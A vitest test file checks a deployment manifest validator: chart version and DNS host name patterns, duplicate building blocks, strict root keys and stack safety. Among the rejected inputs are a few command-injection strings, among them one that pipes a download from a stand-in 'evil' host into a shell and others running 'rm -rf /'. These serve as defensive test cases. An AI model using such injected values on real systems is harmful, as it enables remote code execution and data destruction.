// Format rules of the manifest (issue 13, item 8): chart versions are SemVer-ish (every catalog
// version passes; shell text, NaN and spaces do not), nameservers are DNS host names, a region lists
// each building block once, the root object is strict ($schema allowed), and long lists of problems
// do not overflow the stack.
import { describe, expect, it } from 'vitest';
import { COMPONENTS } from '../../../src/shared/constants/components';
import { buildManifest, validateManifest } from '../../../src/shared/lib/manifest';
import {
  CHART_VERSION_PATTERN,
  DNS_HOST_NAME_PATTERN,
  type SovereignManifest,
} from '../../../src/shared/schemas/manifest';
import { validDraft } from '../lib/manifest-fixtures';

const valid = (): SovereignManifest => structuredClone(buildManifest(validDraft()));
const problemsOf = (input: unknown) => {
  const r = validateManifest(input);
  return r.ok ? [] : r.problems;
};

describe('chart versions', () => {
  it('accepts every chart version in the catalog', () => {
    const versions = COMPONENTS.flatMap((c) => (c.chart ? [c.chart.version] : []));
    expect(versions.length).toBeGreaterThan(10);
    for (const v of versions) expect(CHART_VERSION_PATTERN.test(v), v).toBe(true);
  });

  it.each([
    '1.2.3',
    'v1.16.2',
    '3.2.0-final',
    '1.0.0-beta.213',
    '2026.2.2',
    '1.2',
    '1.2.3+build.5',
    '0.1.572-rc.1+sha.abc',
  ])('accepts %s', (v) => expect(CHART_VERSION_PATTERN.test(v)).toBe(true));

  it.each([
    '../../etc/passwd"; curl evil|sh',
    'NaN',
    ' ',
    '1.2.3 ',
    '1 .2',
    '',
    '1',
    'v',
    'latest',
    '1.2.3-',
    '1.2.3-a..b',
    '1.2.3\n',
    '1.2.3;rm',
    '１.２.３',
  ])('refuses %j, naming the component version path', (v) => {
    expect(CHART_VERSION_PATTERN.test(v)).toBe(false);
    const m = valid();
    const i = m.spec.components.findIndex((c) => c.version !== null);
    m.spec.components[i]!.version = v;
    expect(problemsOf(m)).toContainEqual({
      path: `spec.components[${i}].version`,
      message: expect.stringMatching(/chart version/),
    });
  });

  it('still takes null for a component without a chart', () => {
    const m = valid();
    expect(m.spec.components.some((c) => c.version === null)).toBe(true);
    expect(problemsOf(m)).toEqual([]);
  });
});

describe('nameservers', () => {
  it.each(['ns1.openova.io', 'NS1.Example.COM', 'ns1.example.com.', 'a-b.c-d.example'])(
    'accepts %s',
    (ns) => expect(DNS_HOST_NAME_PATTERN.test(ns)).toBe(true),
  );

  it.each([
    'ns1',
    'ns1 .example.com',
    'http://ns1.example.com',
    'ns1.example.com/x',
    '-ns.example.com',
    'ns-.example.com',
    'ns1..example.com',
    '',
    `${'a'.repeat(64)}.example.com`,
    `${'abc.'.repeat(64)}com`,
    '"; rm -rf /',
  ])('refuses %j, naming spec.dns.nameservers[i]', (ns) => {
    expect(DNS_HOST_NAME_PATTERN.test(ns) && ns.length <= 253).toBe(false);
    const m = valid();
    m.spec.dns.nameservers = ['ns1.openova.io', ns];
    const problems = problemsOf(m);
    expect(problems.map((p) => p.path)).toContain('spec.dns.nameservers[1]');
    expect(problems.map((p) => p.path)).not.toContain('spec.dns.nameservers[0]');
  });

  it('checks a 1 MB nameserver quickly', () => {
    const m = valid();
    m.spec.dns.nameservers = [`${'a'.repeat(60)}.`.repeat(16_000)];
    const t0 = performance.now();
    expect(problemsOf(m).map((p) => p.path)).toContain('spec.dns.nameservers[0]');
    expect(performance.now() - t0).toBeLessThan(500);
  });
});

describe('building blocks', () => {
  it('refuses a block listed twice in a region, naming the repeat', () => {
    const m = valid();
    const blocks = m.spec.infrastructure.regions[0]!.buildingBlocks;
    m.spec.infrastructure.regions[0]!.buildingBlocks = [...blocks, blocks[0]!];
    expect(problemsOf(m)).toContainEqual({
      path: `spec.infrastructure.regions[0].buildingBlocks[${blocks.length}]`,
      message: `"${blocks[0]}" is listed twice`,
    });
  });

  it('accepts distinct blocks', () => {
    expect(problemsOf(valid())).toEqual([]);
  });
});

describe('the root object', () => {
  it('refuses unknown top-level fields and keeps $schema', () => {
    expect(problemsOf({ ...valid(), status: { phase: 'x' } })).toContainEqual({
      path: '(root)',
      message: 'Unrecognized key: "status"',
    });
    expect(problemsOf({ $schema: '/schema/sovereign-v1alpha1.json', ...valid() })).toEqual([]);
  });
});

describe('long problem lists', () => {
  it('reports 200,000 unknown components without overflowing the stack', () => {
    const m = valid() as unknown as { spec: { components: unknown[]; installOrder: string[] } };
    m.spec.components = Array.from({ length: 200_000 }, (_, i) => ({
      id: `nope-${i}`,
      version: null,
      reason: 'chosen',
    }));
    m.spec.installOrder = Array.from({ length: 200_000 }, (_, i) => `nope-${i}`);
    const problems = problemsOf(m);
    expect(problems.length).toBeGreaterThan(200_000);
    expect(problems[0]?.path).toMatch(/^spec\./);
  });
});
